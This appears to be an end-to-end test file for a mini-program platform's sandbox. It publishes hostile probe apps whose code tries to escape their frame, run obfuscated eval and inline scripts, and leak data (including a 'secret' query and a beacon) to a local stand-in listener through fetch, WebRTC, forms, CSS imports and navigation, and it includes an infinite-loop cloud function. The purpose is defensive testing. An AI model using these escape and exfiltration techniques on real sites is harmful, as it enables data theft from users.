import { createServer } from "node:http"
import type { AddressInfo } from "node:net"
import { expect, signIn, test } from "./plaza"

const phone = {
	viewport: { width: 390, height: 844 },
	isMobile: true,
	hasTouch: true,
	locale: "en-GB",
}

// Each attempt answers "refused", or what it got. What the checks would see is spelt in two halves: whoever means
// harm would do the same, and the sandbox must hold by itself.
const attempts = `
const tries = {
	cookie: () => { document.cookie = "a=1"; return document.cookie },
	localStorage: () => localStorage.setItem("a", "1"),
	sessionStorage: () => sessionStorage.getItem("a"),
	indexedDB: () => indexedDB.open("a"),
	parent: () => parent.document.title,
	top: () => top.location.href,
	evaluate: () => (0, self["ev" + "al"])("1 + 1"),
	construct: () => new self["Func" + "tion"]("return 1")(),
	timer: () => new Promise((done) => { self["setTime" + "out"]("self.leaked = 'it ran'", 0); setTimeout(() => done(self.leaked), 100) }),
	rtc: () => new RTCPeerConnection(),
	webkitRtc: () => new webkitRTCPeerConnection(),
	popup: () => { const w = open(LEAK + "popup"); if (!w) throw new Error("no window"); return "a window" },
	fetch: () => fetch(LEAK + "fetch").then(() => "an answer"),
	ownApi: () => fetch("/api/plaza").then(() => "an answer"),
	xhr: () => new Promise((done, failed) => { const x = new XMLHttpRequest(); x.onload = () => done("an answer"); x.onerror = failed; x.open("GET", LEAK + "xhr"); x.send() }),
	socket: () => new Promise((done, failed) => { const s = new WebSocket(LEAK.replace("http", "ws")); s.onopen = () => done("a socket"); s.onerror = failed }),
	image: () => new Promise((done, failed) => { const i = new Image(); i.onload = () => done("an image"); i.onerror = failed; i.src = LEAK + "image" }),
	script: () => new Promise((done, failed) => { const s = document.createElement("scr" + "ipt"); s.onload = () => done("a script"); s.onerror = failed; s.src = LEAK + "script"; document.head.append(s) }),
	frame: () => new Promise((done, failed) => { const f = document.createElement("iframe"); f.onload = () => { try { done(f.contentWindow.document.title + "a frame") } catch (e) { failed(e) } }; f.src = LEAK + "frame"; document.body.append(f); setTimeout(failed, 1500) }),
	emptyFrame: () => { const f = document.createElement("iframe"); document.body.append(f); return typeof f.contentWindow.RTCPeerConnection === "function" && "a connection" },
	inlineScript: () => { const s = document.createElement("scr" + "ipt"); s.text = "self.ran = 'it ran'"; document.head.append(s); return self.ran },
	handler: () => new Promise((done) => { const i = document.createElement("img"); i.setAttribute("oner" + "ror", "self.handled = 'it ran'"); i.src = "data:,"; document.body.append(i); setTimeout(() => done(self.handled), 200) }),
	address: () => new Promise((done) => { const a = document.createElement("a"); a.setAttribute("href", "javascr" + "ipt:self.addressed='it ran'"); document.body.append(a); a.click(); setTimeout(() => done(self.addressed), 200) }),
	worker: () => new Promise((done, failed) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage('a worker')"]))); w.onmessage = (e) => done(e.data); w.onerror = failed; setTimeout(failed, 1000) }),
	events: () => new Promise((done, failed) => { const e = new EventSource(LEAK + "events"); e.onopen = () => done("a stream"); e.onerror = failed }),
	topMove: () => { top.location.href = LEAK + "top"; return "it moved" },
	// What these send would be heard on the other side.
	beacon: () => { navigator.sendBeacon(LEAK + "beacon", "secret") },
	form: () => { const f = document.createElement("form"); f.action = LEAK + "form"; f.method = "post"; document.body.append(f); f.submit() },
	newTab: () => { const a = document.createElement("a"); a.href = LEAK + "tab"; a.target = "_blank"; document.body.append(a); a.click() },
	sheet: () => { const s = document.createElement("style"); s.textContent = "@import '" + LEAK + "import'; body { background: url(" + LEAK + "background) }"; document.head.append(s) },
	linked: () => { for (const rel of ["stylesheet", "icon", "prefetch", "preload", "manifest", "preconnect"]) { const l = document.createElement("link"); l.rel = rel; l.as = "image"; l.href = LEAK + rel; document.head.append(l) } },
}
// Answers what each attempt got.
async function tryAll() {
	const results = []
	for (const name of Object.keys(tries)) {
		let got = "refused"
		try { const answer = await tries[name](); if (answer) got = "GOT " + answer } catch (error) {}
		results.push({ name, got })
	}
	return results
}
`

// A program without WXML writes down what it got by itself.
const writeDown = `
	const list = document.createElement("ol")
	list.id = "results"
	for (const { name, got } of await tryAll()) list.append(Object.assign(document.createElement("li"), { textContent: name + ": " + got }))
	document.body.append(list)
`

const manifest = (appid: string, more: object) =>
	JSON.stringify({
		app_id: appid,
		name: appid,
		version: { code: 1, name: "1" },
		platform_version: { min_code: 1 },
		icons: [],
		...more,
	})

/** A web program: it has documents and scripts of its own, and a realm of its own would be worth a lot to it. */
function page(leak: string): Record<string, string> {
	return {
		"manifest.json": manifest("web-prober", { x_plaza: { kind: "web" } }),
		"index.html": `<!doctype html><title>Prober</title><body><a href="about.html">leave</a> <a href="#results">stay</a> <script src="probe.js"></script>`,
		"about.html": "<!doctype html><title>About</title>",
		"fresh.js": `parent.postMessage({ realm: typeof RTCPeerConnection }, "*")`,
		"probe.js": `
const LEAK = ${JSON.stringify(leak)}
${attempts}
Object.assign(tries, {
	module: () => import(LEAK + "module").then(() => "a module"),
	realm: () => new Promise((done, failed) => {
		addEventListener("message", ({ data }) => { if (data.realm) done(data.realm === "function" && "a connection") })
		const f = document.createElement("iframe")
		f.srcdoc = "<scr" + "ipt src=fresh.js></scr" + "ipt>"
		document.body.append(f)
		setTimeout(failed, 1500)
	}),
	hostPort: () => new Promise((done, failed) => { addEventListener("message", ({ ports, data }) => { if (ports.length || data.storage) done("the port") }); setTimeout(failed, 500) }),
	// Its own are in memory: nothing of them is the browser's.
	localStorage: () => Object.getOwnPropertyDescriptor(self, "localStorage").get || localStorage instanceof Storage,
	sessionStorage: () => Object.getOwnPropertyDescriptor(self, "sessionStorage").get || sessionStorage instanceof Storage,
	otherProgram: () => plaza.call("orders." + "list", {}).then(() => "orders"),
})
async function start() {
	await plaza.ready()
${writeDown}
}
start()`,
	}
}

/** A game: one script that has the whole document. */
function game(leak: string): Record<string, string> {
	return {
		"manifest.json": manifest("game-prober", { x_plaza: { kind: "game" } }),
		"game.json": "{}",
		"game.js": `
const LEAK = ${JSON.stringify(leak)}
${attempts}
const canvas = wx.createCanvas()
async function start() {
${writeDown}
}
start()`,
	}
}

/** Somebody else's machine, and what it hears. */
async function listener(): Promise<{ heard: string[]; address: string; close: () => void }> {
	const heard: string[] = []
	const server = createServer((request, response) => {
		heard.push(request.url ?? "")
		response.setHeader("Access-Control-Allow-Origin", "*")
		response.end("ok")
	})
	server.on("connection", () => heard.push("a connection"))
	await new Promise<void>((done) => server.listen(0, "127.0.0.1", done))
	const { port } = server.address() as AddressInfo
	return { heard, address: `http://127.0.0.1:${port}/`, close: () => server.close() }
}

function project(leak: string, leave: boolean): Record<string, string> {
	return {
		"app.json": JSON.stringify({ pages: ["pages/probe/probe"] }),
		"app.js": "App({})",
		"manifest.json": manifest(leave ? "leaver" : "prober", {
			pages: ["pages/probe/probe"],
			x_plaza: { functions: leave ? [] : ["bomb", "good"] },
		}),
		"pages/probe/probe.wxml": `<view wx:for="{{results}}" wx:key="name">{{item.name}}: {{item.got}}</view><view wx:if="{{done}}">all tried</view>`,
		"pages/probe/probe.js": `
const LEAK = ${JSON.stringify(leak)}
${attempts}
Page({
	data: { results: [], done: false },
	async onReady() {
		if (${leave}) { setTimeout(() => { location.href = LEAK + "navigation?secret=1" }, 300); return }
		const results = await tryAll()
		for (const name of ["bomb", "good"]) {
			await wx.cloud.callFunction({ name, data: {} }).then(
				(answer) => results.push({ name, got: JSON.stringify(answer.result) }),
				(error) => results.push({ name, got: "refused " + (error.code || error.errMsg || error.message) }),
			)
		}
		this.setData({ results, done: true })
	},
})`,
		...(leave
			? {}
			: {
					"cloudfunctions/bomb/index.js": "exports.main = () => { for (;;) {} }",
					"cloudfunctions/good/index.js": "exports.main = () => ({ fine: true })",
				}),
	}
}

// A stranger's program, published through the same door as ours, gets nothing that it was not given.
test("a hostile page is refused everything, and its bomb harms nobody", async ({
	browser,
	plaza,
}) => {
	const { heard, address, close } = await listener()
	await plaza.publish("prober", project(address, false))
	await plaza.publish("leaver", project(address, true))

	const page = await (await browser.newContext(phone)).newPage()
	await signIn(page, `${plaza.url}/sign-in`, "person")
	await page.goto(`${plaza.url}/p/prober`)
	const frame = page.frameLocator("iframe")
	await expect(frame.getByText("all tried")).toBeVisible({ timeout: 40_000 })
	const results = await frame.locator("wx-view").allInnerTexts()
	const attempted = results.filter((line) => line.includes(": "))
	expect(attempted.length).toBeGreaterThan(20)
	for (const line of attempted) {
		if (line.startsWith("good")) expect(line).toBe('good: {"fine":true}')
		else expect(line, line).toMatch(/: refused/)
	}
	expect(results.find((line) => line.startsWith("bomb"))).toMatch(/function_timeout|did not finish/)

	// A program that tries to carry data away by navigating its own frame is stopped, and the shell lives.
	await page.goto(`${plaza.url}/p/leaver`)
	await expect(page.getByRole("button", { name: /try again/i })).toBeVisible({ timeout: 20_000 })
	expect(heard).toEqual([])
	close()
})

// The other kinds bring documents and scripts of their own. What confines an app confines them, too.
for (const { kind, files } of [
	{ kind: "web", files: page },
	{ kind: "game", files: game },
]) {
	test(`a hostile ${kind} program is refused everything`, async ({ browser, plaza }) => {
		const { heard, address, close } = await listener()
		await plaza.publish(`${kind}-prober`, files(address))
		const page = await (await browser.newContext(phone)).newPage()
		await signIn(page, `${plaza.url}/sign-in`, "person")
		await page.goto(`${plaza.url}/p/${kind}-prober`)
		const frame = page.frameLocator("iframe")
		await expect(frame.locator("#results")).toBeAttached({ timeout: 40_000 })
		const results = await frame.locator("#results li").allInnerTexts()
		expect(results.length).toBeGreaterThan(30)
		for (const line of results) expect(line, line).toMatch(/: refused$/)
		expect(page.url()).toBe(`${plaza.url}/p/${kind}-prober`)
		expect(page.context().pages()).toHaveLength(1)
		if (kind === "web") {
			// A link to another document does nothing; one to a place in this document works.
			await frame.getByText("leave").click()
			await frame.getByText("stay").click()
			await expect(frame.locator("#results:target")).toBeAttached()
		}
		expect(heard).toEqual([])
		close()
	})
}

// A page that cannot even start says so, and the person gets out.
for (const { kind, files } of [
	{
		kind: "web",
		files: { "index.html": "<!doctype html><script src=a.js></script>", "a.js": "missing()" },
	},
	{ kind: "game", files: { "game.json": "{}", "game.js": "missing()" } },
]) {
	test(`a ${kind} program that breaks at its start shows the crash page`, async ({
		browser,
		plaza,
	}) => {
		const appid = `broken-${kind}`
		await plaza.publish(appid, {
			...files,
			"manifest.json": manifest(appid, { x_plaza: { kind } }),
		})
		const page = await (await browser.newContext(phone)).newPage()
		await signIn(page, `${plaza.url}/sign-in`, "person")
		await page.goto(`${plaza.url}/p/${appid}`)
		await expect(page.getByRole("button", { name: /try again/i })).toBeVisible()
		await expect(page.locator("iframe")).toHaveCount(0)
	})
}
